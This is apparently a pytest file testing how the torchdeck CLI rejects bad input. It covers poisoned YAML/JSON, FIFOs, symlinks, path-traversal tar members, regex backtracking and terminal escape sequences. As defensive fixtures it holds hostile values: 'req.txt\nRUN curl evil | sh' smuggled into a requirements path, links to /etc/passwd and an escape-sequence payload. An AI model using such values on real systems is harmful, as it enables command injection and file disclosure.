"""Issue 29: bad input, round 2. Each kind of input passes one gate, and these tests drive every
door a kind has through it: files (``backends/files.py``), names and prefixes
(``backends/names.py``), text a rank writes (``trainer/textmetrics.py``), ignore files and the
bundle's unpacking (``backends/bundle.py``), arguments on their way to the kubelet
(``manifests.as_written``), and what the CLI prints (``torchdeck/terminal.py``). Each case ends in
one line and a non-zero exit, or is handled with nothing lost; none is a traceback or a hang."""

from __future__ import annotations

import json
import os
import pty
import struct
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml
from local_runs import cli_env
from trainer_runs import REPO

from torchdeck.backends.bundle import UNPACK, code_files, pack
from torchdeck.backends.eks.access import ClusterRecord
from torchdeck.backends.eks.plan import ClusterPlan, NodegroupPlan, cost_per_hour, load_plan, s3_policy, save_plan
from torchdeck.backends.eks.storage_plan import StoragePlan, validate_storage
from torchdeck.backends.errors import BackendError, SpecError
from torchdeck.backends.files import load_json, load_yaml, write_atomically
from torchdeck.backends.kubernetes.importing import import_manifest, kubelet_expand
from torchdeck.backends.kubernetes.manifests import render
from torchdeck.backends.kubernetes.resolve import check_kubeconfig_files
from torchdeck.backends.spec import JobSpec, load_spec, with_overrides
from torchdeck.cli.main import main
from torchdeck.settings import Settings, SettingsError
from torchdeck.trainer.data import _read_batch
from torchdeck.trainer.errors import TrainerError
from torchdeck.trainer.textmetrics import RankedText, TextMetrics

BAD_PREFIXES = ["", "?", "a?", "${aws:username}/", "a/${aws:userid}", "a/../", "../x", "a//b", "/models", "a/*", "*"]


def cli(folder: Path, capsys, *argv: str) -> tuple[int, str]:
    """``torchdeck ARGV`` in this process, run in ``folder`` with its state there: (exit, stderr)."""
    old = os.getcwd()
    os.environ["TORCHDECK_STATE_DIR"] = str(folder / "state")
    os.chdir(folder)
    try:
        code = main(list(argv))
    except SystemExit as exc:
        code = exc.code if isinstance(exc.code, int) else 2
    finally:
        os.chdir(old)
        os.environ.pop("TORCHDECK_STATE_DIR")
    return code, capsys.readouterr().err


def one_line(code: int, err: str, *words: str) -> None:
    lines = [line for line in err.splitlines() if line.strip()]
    assert code != 0 and len(lines) == 1 and "Traceback" not in err, err
    assert lines[0].startswith("torchdeck: error: "), err
    for word in words:
        assert word in lines[0], err


# -- names and prefixes: one validator, every door ------------------------------------------------


@pytest.mark.parametrize("prefix", BAD_PREFIXES)
def test_every_door_that_takes_an_s3_prefix_refuses_the_same_ones(tmp_path, capsys, prefix) -> None:
    code, err = cli(tmp_path, capsys, "cluster", "init", "--name", "demo", "--region", "us-west-2",
                    "--bucket", "bkt-models", "--prefix", prefix, "--file", "c.yaml")  # fmt: skip
    one_line(code, err, "s3_prefix", "key prefix")
    assert not (tmp_path / "c.yaml").exists()
    with pytest.raises(SpecError, match="key prefix"):
        validate_storage(StoragePlan(cluster="demo", region="us-west-2", bucket="bkt-models", prefix=prefix))
    with pytest.raises(SpecError, match="cluster.code_bucket"):
        with_overrides(JobSpec(), {"cluster.code_bucket": f"s3://bkt-models/{prefix}x*"})


def test_a_plan_edited_to_grant_the_whole_bucket_is_refused_when_read_back(tmp_path) -> None:
    plan = ClusterPlan(name="demo", region="us-west-2", nodegroups=[NodegroupPlan("cpu", "m5.xlarge", 1, 1, 2)],
                       s3_bucket="bkt-models", s3_prefix="torchdeck/")  # fmt: skip
    path = tmp_path / "cluster.yaml"
    save_plan(plan, path)
    assert load_plan(path).s3_prefix == "torchdeck/"
    for granted in ("arn:aws:s3:::bkt-models/*", "arn:aws:s3:::bkt-models/${aws:username}/*"):
        path.write_text(path.read_text().replace("arn:aws:s3:::bkt-models/torchdeck/*", granted))
        with pytest.raises(SpecError, match="s3_prefix") as caught:
            load_plan(path)
        assert str(path) in str(caught.value) and "\n" not in str(caught.value)
        save_plan(plan, path)


def test_a_cluster_record_edited_by_hand_is_checked_as_it_is_read(tmp_path) -> None:
    folder = tmp_path / "clusters"
    folder.mkdir()
    record = {"name": "demo", "region": "us-west-2", "storage": {"bucket": "bkt-models", "prefix": ""}}
    (folder / "demo.json").write_text(json.dumps(record))
    with pytest.raises(BackendError, match="storage.prefix"):
        ClusterRecord.load(tmp_path, "demo")
    record["storage"] = {"bucket": "bkt-models", "prefix": "models/"}
    (folder / "demo.json").write_text(json.dumps(record))
    loaded = ClusterRecord.load(tmp_path, "demo")
    assert loaded is not None and loaded.storage is not None and loaded.storage.prefix == "models/"


def test_the_granted_resources_never_hold_a_wildcard_but_the_last() -> None:
    from hypothesis import given, settings
    from hypothesis import strategies as st

    from torchdeck.backends.names import check_s3_prefix

    @settings(max_examples=600, derandomize=True, database=None, deadline=None)
    @given(st.one_of(st.text(max_size=40), st.from_regex(r"[a-z0-9./*?${}:-]{0,30}", fullmatch=True)))
    def check(prefix: str) -> None:
        try:
            kept = check_s3_prefix(prefix)
        except SpecError as exc:
            assert "\n" not in str(exc)
            return
        assert kept and kept.endswith("/") and not kept.startswith("/") and ".." not in kept
        policy: Any = s3_policy("bkt-models", kept)
        resource = policy["Statement"][0]["Resource"]
        assert resource == f"arn:aws:s3:::bkt-models/{kept}*" and not any(c in kept for c in "*?$")

    check()


def test_arbitrary_strings_pass_every_name_check_or_are_one_line() -> None:
    from hypothesis import given, settings
    from hypothesis import strategies as st

    from torchdeck.backends import names

    checks: list[Callable[[Any], object]] = [names.check_cluster_name, names.check_namespace, names.check_service_account, names.check_run_id,
              names.check_bucket_name, names.check_s3_prefix, names.check_cidr,
              lambda v: names.check_code_path(v, "script")]  # fmt: skip

    @settings(max_examples=800, derandomize=True, database=None, deadline=None)
    @given(
        st.one_of(
            st.text(max_size=70),
            st.from_regex(r"[a-z0-9./*?$(){}: \n-]{0,40}", fullmatch=True),
            st.sampled_from(["0.0.0.0/0", "10.0.0.1/8", "::/0", "../x", "a/../b", "x\ny", "\x1b[2J"]),
        )
    )
    def check(value: str) -> None:
        for check_one in checks:
            try:
                kept = str(check_one(value))
            except SpecError as exc:
                assert "\n" not in str(exc) and len(str(exc)) < 500
                continue
            assert kept.isprintable() and ".." not in kept.split("/"), (check_one, value)

    check()


def test_a_cidr_that_holds_every_address_says_so_as_the_default_does() -> None:
    groups = [NodegroupPlan("cpu", "m5.xlarge", 1, 1, 2)]
    for cidrs, says in (([], True), (["0.0.0.0/0"], True), (["203.0.113.7/32", "0.0.0.0/0"], True),
                        (["203.0.113.0/24"], False)):  # fmt: skip
        notes = cost_per_hour(ClusterPlan(name="demo", region="us-west-2", nodegroups=groups,
                                          public_access_cidrs=cidrs))[2]  # fmt: skip
        assert any("answers every address" in n for n in notes) is says, cidrs


# -- files: one reader ---------------------------------------------------------------------------

POISON = {
    "a number of 5,000 digits": "name: demo\nnodes: " + "9" * 5000 + "\n",
    "200,000 nested brackets": "name: " + "[" * 200_000 + "\n",
    "200 nested mappings": "".join("  " * i + f"k{i}:\n" for i in range(200)) + "  " * 200 + "v: 1\n",
    ".inf where an integer belongs": "name: demo\nnodes: .inf\n",
    "an alias": "a: &x [1, 2]\nb: *x\n",
}


@pytest.mark.parametrize("what", sorted(POISON))
def test_every_yaml_file_refuses_the_same_poison_in_one_line(tmp_path, capsys, what) -> None:
    path = tmp_path / "poison.yaml"
    path.write_text(POISON[what])
    for read in (load_spec, load_plan, lambda p: import_manifest(p.read_text(), str(p))):
        with pytest.raises(SpecError) as caught:
            read(path)
        assert "\n" not in str(caught.value) and len(str(caught.value)) < 400
    with pytest.raises(SettingsError) as refused:
        Settings.load(env={}, config_file=path)
    assert str(path) in str(refused.value)
    with pytest.raises(BackendError, match="cannot use the kubeconfig"):
        check_kubeconfig_files(str(path))
    for argv in (["render", "poison.yaml"], ["import", "poison.yaml", "-o", "out.yaml"],
                 ["cluster", "plan", "--file", "poison.yaml"]):  # fmt: skip
        one_line(*cli(tmp_path, capsys, *argv), "poison.yaml")
    assert not (tmp_path / "out.yaml").exists()


@pytest.mark.parametrize("kind", ["fifo", "dev-zero", "folder"])
def test_a_file_that_is_no_regular_file_is_refused_before_a_byte_is_read(tmp_path, capsys, kind) -> None:
    path = tmp_path / "torchdeck.yaml"
    if kind == "fifo":
        os.mkfifo(path)
    elif kind == "dev-zero":
        path.symlink_to("/dev/zero")
    else:
        path.mkdir()
    started = time.monotonic()
    for read in (load_yaml, load_json, load_spec, load_plan):
        with pytest.raises(SpecError, match=r"is (a FIFO|a device|a folder)"):
            read(path)
    with pytest.raises(SettingsError, match="not a file torchdeck reads"):
        Settings.load(env={}, config_file=path)
    with pytest.raises(BackendError, match="not a file torchdeck reads"):
        check_kubeconfig_files(str(path))
    one_line(*cli(tmp_path, capsys, "render", "torchdeck.yaml"), "not a file torchdeck reads")
    one_line(*cli(tmp_path, capsys, "import", "torchdeck.yaml", "-o", "out.yaml"), "not a file torchdeck reads")
    assert time.monotonic() - started < 60  # a FIFO read would block here for ever


def test_deep_json_and_huge_numbers_in_a_record_are_one_line(tmp_path) -> None:
    path = tmp_path / "r.json"
    for text in ("[" * 100_000, '{"a": ' + "9" * 5000 + "}", '{"a": NaN}'):
        path.write_text(text)
        with pytest.raises(SpecError) as caught:
            load_json(path)
        assert str(path) in str(caught.value) and "\n" not in str(caught.value)


# -- paths written: exclusively, never through a link ---------------------------------------------


@pytest.mark.parametrize(
    "argv",
    [
        ["init"],
        ["import", "m.yaml"],
        ["cluster", "init", "--name", "demo", "--region", "us-west-2", "--file", "torchdeck.yaml"],
    ],  # fmt: skip
    ids=["init", "import", "cluster-init"],
)
def test_a_dangling_link_at_the_output_is_never_followed(tmp_path, capsys, argv) -> None:
    work, outside = tmp_path / "work", tmp_path / "outside"
    work.mkdir()
    outside.mkdir()
    manifest = {"apiVersion": "batch/v1", "kind": "Job", "metadata": {"name": "t"},
                "spec": {"template": {"spec": {"containers": [{"name": "t", "image": "r/t:1",
                                                                 "command": ["python", "train.py"]}]}}}}  # fmt: skip
    (work / "m.yaml").write_text(yaml.safe_dump(manifest))
    (work / "torchdeck.yaml").symlink_to(outside / "planted.yaml")
    code, err = cli(work, capsys, *argv)
    one_line(code, err, "exists", "--force")
    assert list(outside.iterdir()) == []
    code, err = cli(work, capsys, *argv, "--force")
    assert code == 0, err
    assert list(outside.iterdir()) == [] and not (work / "torchdeck.yaml").is_symlink()
    assert (work / "torchdeck.yaml").stat().st_size > 0


def test_an_exclusive_write_refuses_anything_at_the_path(tmp_path) -> None:
    link = tmp_path / "x.yaml"
    link.symlink_to(tmp_path / "nowhere")
    with pytest.raises(FileExistsError):
        write_atomically(link, "a: 1\n", replace=False)
    assert not (tmp_path / "nowhere").exists() and sorted(p.name for p in tmp_path.iterdir()) == ["x.yaml"]


# -- a rank's text: the reader never stalls and never dies ----------------------------------------

SLOW_BEFORE = [
    "loss" + " " * 2000,  # 80 s on the old pattern
    "train_loss" + " :" * 1000,
    "step" + " [" * 1000 + "x",
    "Epoch: " + "[ " * 1000,
    "epoch" + " " * 2000 + "#",
    "acc" + " " * 2000,
    "1" * 2000 + " img",
    "images/s" + " :" * 1000,
]
KILLED_BEFORE = [
    '{"a":' + "[" * 100_000,  # RecursionError
    "epoch " + "9" * 400 + " loss 1.0",  # OverflowError
    "step " + "9" * 5000 + " loss 1.0",  # ValueError (int's digit limit)
    '{"schema": 1, "event": "step", "rank": 0, "loss": ' + "9" * 5000 + "}",
    "\udcff\x00\x1b[2J loss: nan step 1e999",
]


def test_pathological_lines_are_read_in_bounded_time_and_never_raise() -> None:
    reader = TextMetrics(0, 2)
    for line in SLOW_BEFORE + KILLED_BEFORE:
        started = time.process_time()  # CPU time: a loaded host stretches the wall clock, not this
        reader.feed(line)
        assert time.process_time() - started < 1.0, line[:30]  # each took 6-80 s, or raised, before
    assert reader.feed("epoch 2/5 step 7/100 loss: 0.25")["loss"] == 0.25  # and the next line is read


def test_arbitrary_lines_and_bytes_never_end_the_readers() -> None:
    from hypothesis import given, settings
    from hypothesis import strategies as st

    words = st.sampled_from(["loss", "Loss:", "step", "iter", "epoch", "Epoch: [", "acc", "top1", "%", "/",
                             "samples/s", "[rank3]:", "[default1]:", "{", '{"schema": 1, "event": "step"',
                             "[", "]", " ", "=", ":", "|", "9" * 30, ".", "e", "nan", "inf", "\r", "\x1b["])  # fmt: skip
    lines = st.one_of(st.text(max_size=300), st.lists(words, max_size=80).map("".join))

    @settings(max_examples=1500, derandomize=True, database=None, deadline=None)  # the CPU time is held below
    @given(line=lines, raw=st.binary(max_size=200))
    def check(line: str, raw: bytes) -> None:
        started = time.process_time()
        parser, ranked = TextMetrics(1, 4), RankedText(2, 4, None, "train.py")
        record = parser.feed(line)
        assert record is None or (record["rank"] == 1 or record.get("schema") == 1)
        for data in (line.encode(errors="surrogateescape"), raw):
            rank, _, records = ranked.read(1, data)
            assert -1 <= rank < 4 and all(isinstance(r, dict) for r in records)
        assert set(ranked.ranks) <= {0, 1, 2, 3}
        assert time.process_time() - started < 1.0  # no line backtracks (Hypothesis' deadline timed the wall)

    check()


def test_rank_prefixes_beyond_the_world_and_bad_annotations_are_ignored() -> None:
    ranked = RankedText(2, 4, "(?P<loss>(a+)+b", "train.py")  # a pattern RE2 refuses, from a job's annotation
    assert ranked.read(0, b"[rank9]: loss 1.0")[0] == 0 and ranked.read(0, b"[rank3]: loss 1.0")[0] == 3
    for n in range(1000):
        ranked.read(0, f"[rank{10 + n}]: loss 1.0".encode())
    ranked.read(0, b"[rank" + b"9" * 5000 + b"]: loss 1.0")
    assert set(ranked.ranks) == {0, 3}
    assert ranked.ranks[0].pattern_problem and ranked.ranks[0].pattern is None  # the built-in formats instead
    assert TextMetrics(0, 1, "(?<=x)(?P<loss>1)").feed("loss 2")["loss"] == 2.0


def test_a_ranks_wrapper_passes_every_line_and_reads_on_after_poison(tmp_path) -> None:
    """The process between torchrun and the script (local backend): poison lines reach the log and
    the metric file gets the good lines after them; the script's exit status is the wrapper's."""
    script = tmp_path / "poison.py"
    lines = KILLED_BEFORE[:3] + SLOW_BEFORE[:2] + ["[rank" + "1" * 5000 + "]: x", "step 3 loss: 0.5"]
    script.write_text(f"import json\nfor line in {json.dumps(lines)}:\n    print(line)\n")
    metrics = tmp_path / "rank-{rank}.jsonl"
    env = {**cli_env(tmp_path / "state"), "RANK": "0", "WORLD_SIZE": "1"}
    done = subprocess.run([sys.executable, "-m", "torchdeck.backends.rank_output", str(metrics), "", "--",
                           sys.executable, str(script)], capture_output=True, timeout=60, env=env, cwd=REPO)  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert done.stdout.decode().splitlines() == lines
    records = [json.loads(line) for line in (tmp_path / "rank-0.jsonl").read_text().splitlines()]
    assert [r["event"] for r in records][0] == "start" and records[-1]["event"] == "done"
    assert any(r["event"] == "step" and r["step"] == 3 and r["loss"] == 0.5 for r in records)


# -- ignore files and the bundle ----------------------------------------------------------------


def test_ignore_files_are_read_as_git_reads_them_and_no_pattern_backtracks(tmp_path) -> None:
    (tmp_path / "train.py").write_text("print(1)\n")
    (tmp_path / ("a" * 40)).write_text("x\n")
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / "m.ckpt").write_text("x\n")
    (tmp_path / "out" / "keep.ckpt").write_text("x\n")
    (tmp_path / ".gitignore").write_text("*a*a*a*a*a*a*a*a*a*a*a*b\n*.ckpt\n!out/keep.ckpt\n")
    started = time.process_time()  # CPU time: a loaded host stretches the wall clock, not this
    names = [p.relative_to(tmp_path).as_posix() for p in code_files(tmp_path)]
    assert time.process_time() - started < 5  # the old translation took 31 s for this name
    assert names == [".gitignore", "a" * 40, "out/keep.ckpt", "train.py"]
    (tmp_path / ".dockerignore").write_text("out\n")  # anchored at the folder, as Docker reads it
    assert "out/keep.ckpt" not in [p.relative_to(tmp_path).as_posix() for p in code_files(tmp_path)]


@pytest.mark.parametrize("kind", ["[z-a]x", "fifo", "/dev/zero", "/etc/passwd", "huge"])
def test_a_bad_ignore_file_is_one_line(tmp_path, capsys, kind) -> None:
    (tmp_path / "train.py").write_text("print(1)\n")
    ignore = tmp_path / ".gitignore"
    if kind == "fifo":
        os.mkfifo(ignore)
    elif kind.startswith("/"):
        ignore.symlink_to(kind)
    elif kind == "huge":
        ignore.write_text("x\n" * 200_000)
    else:
        ignore.write_text(f"build/\n{kind}\n")
    with pytest.raises(SpecError) as caught:
        pack(tmp_path)
    assert ".gitignore" in str(caught.value) and "\n" not in str(caught.value)
    if kind == "[z-a]x":
        assert "line 2" in str(caught.value)
    code, err = cli(tmp_path, capsys, "render", "--kind", "pytorchjob", "--image", "r/t:1", "train.py")
    one_line(code, err, ".gitignore")


def test_arbitrary_file_trees_pack_or_say_why_in_one_line(tmp_path_factory) -> None:
    from hypothesis import given, settings
    from hypothesis import strategies as st

    names = st.one_of(st.sampled_from([".gitignore", ".dockerignore", "a", "b.py", "sub/c.py", "d/e/f", "x" * 255]),
                      st.text(st.characters(blacklist_characters="/\x00", blacklist_categories=["Cs"]),
                              min_size=1, max_size=30))  # fmt: skip
    entries = st.lists(st.tuples(names, st.sampled_from(["file", "link-out", "link-in", "fifo", "dir"]),
                                 st.text(max_size=60)), max_size=8)  # fmt: skip

    @settings(max_examples=150, derandomize=True, database=None, deadline=None)
    @given(entries=entries)
    def check(entries) -> None:
        root = tmp_path_factory.mktemp("tree")
        for name, kind, text in entries:
            path = root / name
            if name in (".", "..") or os.path.lexists(path):
                continue
            try:
                path.parent.mkdir(parents=True, exist_ok=True)
                if kind == "file":
                    path.write_text(text)
                elif kind == "link-out":
                    path.symlink_to("/etc/hostname")
                elif kind == "link-in":
                    path.symlink_to(root / "a")
                elif kind == "fifo":
                    os.mkfifo(path)
                else:
                    path.mkdir()
            except OSError:
                continue  # a name this file system refuses
        try:
            bundle = pack(root)
        except SpecError as exc:
            assert "\n" not in str(exc)
            return
        assert bundle.files == len(code_files(root))

    check()


def unpack(bundle_data: bytes, dest: Path) -> subprocess.CompletedProcess:
    import hashlib

    src = dest.parent / "code.tar.gz"
    src.write_bytes(bundle_data)
    digest = hashlib.sha256(bundle_data).hexdigest()
    return subprocess.run([sys.executable, "-c", UNPACK, str(src), digest, str(dest)], capture_output=True, text=True)


def test_unpacking_again_replaces_links_in_the_destination_and_never_follows_them(tmp_path) -> None:
    code, dest, victim = tmp_path / "code", tmp_path / "work" / "code", tmp_path / "victim"
    (code / "pkg").mkdir(parents=True)
    (code / "train.py").write_text("print(1)\n")
    (code / "pkg" / "m.py").write_text("x = 1\n")
    victim.mkdir()
    dest.mkdir(parents=True)
    (dest / "pkg").symlink_to(victim)  # what the user's code left in the emptyDir before a restart
    (dest / "train.py").symlink_to(victim / "t.py")
    done = unpack(pack(code).data, dest)
    assert done.returncode == 0, done.stderr
    assert list(victim.iterdir()) == []
    assert (dest / "train.py").read_text() == "print(1)\n" and not (dest / "pkg").is_symlink()
    assert (dest / "pkg" / "m.py").read_text() == "x = 1\n"


@pytest.mark.parametrize("member", [".", "a/./b", "a//b", "../x", "/etc/x"])
def test_a_bundle_member_that_is_no_plain_path_is_one_line(tmp_path, member) -> None:
    import gzip
    import io
    import tarfile

    buffer = io.BytesIO()
    with gzip.GzipFile(fileobj=buffer, mode="wb") as gz, tarfile.open(fileobj=gz, mode="w") as tar:
        info = tarfile.TarInfo(member)
        info.size = 1
        tar.addfile(info, io.BytesIO(b"x"))
    (tmp_path / "dest").mkdir()
    done = unpack(buffer.getvalue(), tmp_path / "dest")
    assert done.returncode == 1 and "Traceback" not in done.stderr
    assert done.stderr.strip().startswith("torchdeck: the code bundle holds")


# -- arguments reach pods as written --------------------------------------------------------------


def test_arguments_and_env_values_reach_the_pods_as_written(tmp_path) -> None:
    (tmp_path / "train.py").write_text("print(1)\n")
    args = ["--out", "$(HOME)/x", "--tag", "$$(KEEP)", "cost$5", "$"]
    spec = with_overrides(JobSpec(), {"image": "r/t:1", "entrypoint.script": "train.py", "entrypoint.code": str(tmp_path),
                                      "entrypoint.args": args, "env": {"A": "$(HOME)", "B": "plain"}})  # fmt: skip
    for kind in ("pytorchjob", "mpijob", "job", "trainjob", "elasticjob"):
        rendered = render(spec, "run-1", kind=kind)
        containers = [c for o in rendered.objects for c in _containers(o)]
        assert containers, kind
        for container in containers:
            env = {e["name"]: e["value"] for e in container.get("env") or [] if "value" in e}
            argv = [
                kubelet_expand(a, env, set()) for a in (container.get("command") or []) + (container.get("args") or [])
            ]
            if "--out" in argv:
                i = argv.index("--out")
                assert argv[i : i + 6] == args, kind  # what the kubelet hands the container is what was written
            if "A" in env:
                assert kubelet_expand(env["A"], {}, set()) == "$(HOME)", kind


def _containers(node):
    if isinstance(node, dict):
        if "image" in node and ("args" in node or "command" in node):
            yield node
        for value in node.values():
            yield from _containers(value)
    elif isinstance(node, list):
        for value in node:
            yield from _containers(value)


def test_import_expands_what_the_kubelet_would_and_says_what_it_kept(tmp_path) -> None:
    manifest = {"apiVersion": "kubeflow.org/v1", "kind": "PyTorchJob", "metadata": {"name": "t"},
                "spec": {"pytorchReplicaSpecs": {"Worker": {"replicas": 2, "template": {"spec": {"containers": [{
                    "name": "pytorch", "image": "r/t:1", "env": [{"name": "OUT", "value": "/data/out"}],
                    "command": ["torchrun", "--nproc-per-node", "1", "/app/train.py", "--out", "$(OUT)/m",
                                "--who", "$(POD_NAME)", "--cost", "$$5"]}]}}}}}}  # fmt: skip
    found = import_manifest(yaml.safe_dump(manifest), "m.yaml")
    assert found.spec.entrypoint.args == ["--out", "/data/out/m", "--who", "$(POD_NAME)", "--cost", "$5"]
    assert any("$(POD_NAME)" in note and "as written" in note for note in found.notes)


def test_arbitrary_arguments_survive_import_and_render_as_written(tmp_path) -> None:
    """A manifest's arguments, generated with the kubelet's syntax in them: imported (expanded as
    the kubelet would have), rendered again, and expanded by the kubelet's rule, they are what the
    import read: the two directions agree for any text."""
    from hypothesis import given, settings
    from hypothesis import strategies as st

    pieces = st.sampled_from(["$", "$$", "$(", ")", "$(OUT)", "$(NOPE)", "(", "a", " ", "'", '"', "\\", "`id`", ";"])
    argument = st.lists(pieces, max_size=8).map("".join)

    @settings(max_examples=200, derandomize=True, database=None, deadline=None)
    @given(args=st.lists(argument, max_size=5))
    def check(args: list[str]) -> None:
        manifest = {"apiVersion": "batch/v1", "kind": "Job", "metadata": {"name": "t"},
                    "spec": {"template": {"spec": {"containers": [{"name": "t", "image": "r/t:1",
                             "env": [{"name": "OUT", "value": "/o"}],
                             "command": ["python", "/app/train.py", *args]}]}}}}  # fmt: skip
        imported = import_manifest(yaml.safe_dump(manifest), "m.yaml").spec
        expected = [kubelet_expand(a, {"OUT": "/o"}, set()) for a in args]
        assert imported.entrypoint.args == expected
        rendered = render(imported, "run-1", kind="job")
        container = next(c for o in rendered.objects for c in _containers(o))
        env = {e["name"]: e["value"] for e in container["env"] if "value" in e}
        words = [kubelet_expand(w, env, set()) for w in container.get("command", []) + container.get("args", [])]
        assert words[len(words) - len(expected) :] == expected

    check()


# -- what the CLI prints ------------------------------------------------------------------------

HOSTILE = "\x1b]0;pwned\x07\x1b[2J\rboom\x9b31m"


def _planted_run(state: Path) -> str:
    run_id = "evil-20261124-000000"
    run = state / "runs" / run_id
    (run / "logs" / run_id / "attempt_0" / "0").mkdir(parents=True)
    (run / "launch.json").write_text(json.dumps({"command": ["x"], "port": 1, "submitted_at": time.time()}))
    status = {"run_id": run_id, "name": "evil", "backend": "local", "state": "failed", "world_size": 1,
              "submitted_at": time.time(), "reason": f"RuntimeError: {HOSTILE}", "hint": HOSTILE}  # fmt: skip
    (run / "status.json").write_text(json.dumps(status))
    (run / "logs" / run_id / "attempt_0" / "0" / "stdout.log").write_text(f"hello {HOSTILE}\n")
    return run_id


def test_jobs_status_and_logs_never_hand_a_terminal_its_escape_sequences(tmp_path) -> None:
    run_id = _planted_run(tmp_path / "state")
    env = cli_env(tmp_path / "state")
    for argv in (["jobs"], ["status", run_id]):
        done = subprocess.run([sys.executable, "-m", "torchdeck", *argv], capture_output=True, text=True, env=env,
                              timeout=60)  # fmt: skip
        assert done.returncode == 0 and run_id in done.stdout, done.stderr
        assert "\x1b" not in done.stdout and "\x07" not in done.stdout and "\x9b" not in done.stdout
        assert "\\x1b]0;pwned" in done.stdout  # shown, escaped: the person sees what was there
    piped = subprocess.run(
        [sys.executable, "-m", "torchdeck", "logs", run_id], capture_output=True, env=env, timeout=60
    )
    assert HOSTILE.encode() in piped.stdout  # to a pipe: the bytes as the rank wrote them
    for argv in (["jobs"], ["status", run_id], ["logs", run_id]):
        shown = on_a_terminal([sys.executable, "-m", "torchdeck", *argv], env)
        assert run_id.encode() in shown or b"boom" in shown, (argv, shown)
        assert b"\x1b" not in shown and b"\x07" not in shown and b"\xc2\x9b" not in shown, (argv, shown)
    assert HOSTILE.encode() in on_a_terminal([sys.executable, "-m", "torchdeck", "logs", run_id, "--raw"], env)


def on_a_terminal(command: list[str], env: dict[str, str]) -> bytes:
    """What ``command`` writes to stdout and stderr when both are a terminal (a pseudo-terminal)."""
    primary, secondary = pty.openpty()
    done = subprocess.run(command, stdout=secondary, stderr=secondary, env=env, timeout=60)
    os.close(secondary)
    shown = b""
    while True:
        try:
            chunk = os.read(primary, 65536)
        except OSError:
            break
        if not chunk:
            break
        shown += chunk
    os.close(primary)
    assert done.returncode == 0, shown
    return shown


def test_every_headless_command_on_a_terminal_escapes_what_it_prints(tmp_path) -> None:
    """The guard round every headless command: a line any of them prints on a terminal (a
    cluster event, a node's reason) has its control characters escaped; to a pipe it is as is."""
    program = (
        "import sys\nfrom torchdeck.terminal import guarded\n"
        f"with guarded():\n    print({HOSTILE!r})\n    print({HOSTILE!r}, file=sys.stderr)\n"
    )
    env = cli_env(tmp_path / "state")
    shown = on_a_terminal([sys.executable, "-c", program], env)
    assert shown.count(b"\\x1b]0;pwned") == 2 and b"\x1b" not in shown
    piped = subprocess.run([sys.executable, "-c", program], capture_output=True, env=env, timeout=60)
    assert HOSTILE.encode() in piped.stdout and HOSTILE.encode() in piped.stderr


def test_import_notes_from_a_hostile_manifest_are_shown_escaped(tmp_path, capsys) -> None:
    manifest = {"apiVersion": "batch/v1", "kind": "Job", "metadata": {"name": "t"},
                "spec": {"template": {"spec": {"containers": [{"name": "t", "image": "r/t:1",
                         "command": ["python", "train.py"],
                         "env": [{"name": f"X{HOSTILE}", "valueFrom": {"fieldRef": {"fieldPath": "x"}}}]}]}}}}  # fmt: skip
    (tmp_path / "m.yaml").write_text(yaml.safe_dump(manifest))
    before = os.getcwd()
    os.chdir(tmp_path)
    try:
        code = main(["import", "m.yaml"])
    finally:
        os.chdir(before)
    out = capsys.readouterr().out
    assert code == 0
    assert "\x1b" not in out and "\\x1b]0;pwned" in out


# -- the rest of the table ------------------------------------------------------------------------


def test_requirements_with_a_newline_never_reach_the_dockerfile(tmp_path) -> None:
    from torchdeck.backends.eks.image_plan import ImagePlan, code_dockerfile, validate_image

    for bad in ("req.txt\nRUN curl evil | sh", "../req.txt", "/etc/passwd", "a\rb"):
        with pytest.raises(SpecError, match="--requirements"):
            validate_image(ImagePlan(cluster="demo", region="us-west-2", code=str(tmp_path), requirements=bad))
    text = code_dockerfile('my reqs "dev".txt')
    run = next(line for line in text.splitlines() if line.startswith("RUN "))
    assert json.loads(run[4:]) == ["pip", "install", "--no-cache-dir", "-r", '/opt/code/my reqs "dev".txt']


def test_report_writes_strict_json_whatever_it_is_given(tmp_path) -> None:
    import orjson

    script = tmp_path / "r.py"
    script.write_text(
        "import datetime\nfrom torchdeck import report\n"
        "report.step(loss=float('nan'), step=1, extra={'a': float('nan'), 'b': [float('inf'), 2]},\n"
        "            when=datetime.date(2020, 1, 1), what=object())\n"
        "print('still running')\n"
    )
    done = subprocess.run([sys.executable, str(script)], capture_output=True, text=True, timeout=60,
                          env={**os.environ, "RANK": "abc", "WORLD_SIZE": "x", "PYTHONPATH": str(REPO.parent)})  # fmt: skip
    assert done.returncode == 0, done.stderr
    first, second = done.stdout.splitlines()
    record = orjson.loads(first)  # strict: NaN would be refused here, as the monitor refuses it
    assert record["rank"] == 0 and record["loss"] is None and record["extra"] == {"a": None, "b": [None, 2]}
    assert record["when"] == "2020-01-01" and second == "still running"


def test_a_data_batch_claiming_a_petabyte_is_one_line(tmp_path) -> None:
    path = tmp_path / "data_batch_1"
    path.write_bytes(b"\x80\x04\x8e" + struct.pack("<Q", 2**50) + b"abc.")
    with pytest.raises(TrainerError, match="cannot read CIFAR-10 batch") as caught:
        _read_batch(path)
    assert "\n" not in str(caught.value)
